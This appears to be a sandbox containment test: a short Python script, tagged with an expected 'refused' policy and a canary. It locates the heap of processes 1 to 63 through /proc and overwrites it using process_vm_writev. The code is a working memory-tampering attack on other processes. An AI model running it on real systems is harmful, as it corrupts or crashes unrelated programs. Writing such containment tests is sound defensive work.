# SPDX-License-Identifier: GPL-3.0-or-later
# title: It reads and writes memory of other processes
# route: process_vm_readv
# policy: refused import
# contained: canary
# ends: finished raised
import ctypes
import os

c = ctypes.CDLL(None, use_errno=True)


class Vector(ctypes.Structure):
    _fields_ = [("base", ctypes.c_void_p), ("length", ctypes.c_size_t)]


buffer = ctypes.create_string_buffer(1 << 20)
for process in range(1, 64):
    if process == os.getpid():
        continue
    try:
        maps = [line for line in open(f"/proc/{process}/maps") if "[heap]" in line]
    except OSError:
        continue
    for line in maps:
        low = int(line.split("-")[0], 16)
        here = Vector(ctypes.addressof(buffer), len(buffer))
        there = Vector(low, len(buffer))
        c.process_vm_writev(process, ctypes.byref(here), 1, ctypes.byref(there), 1, 0)
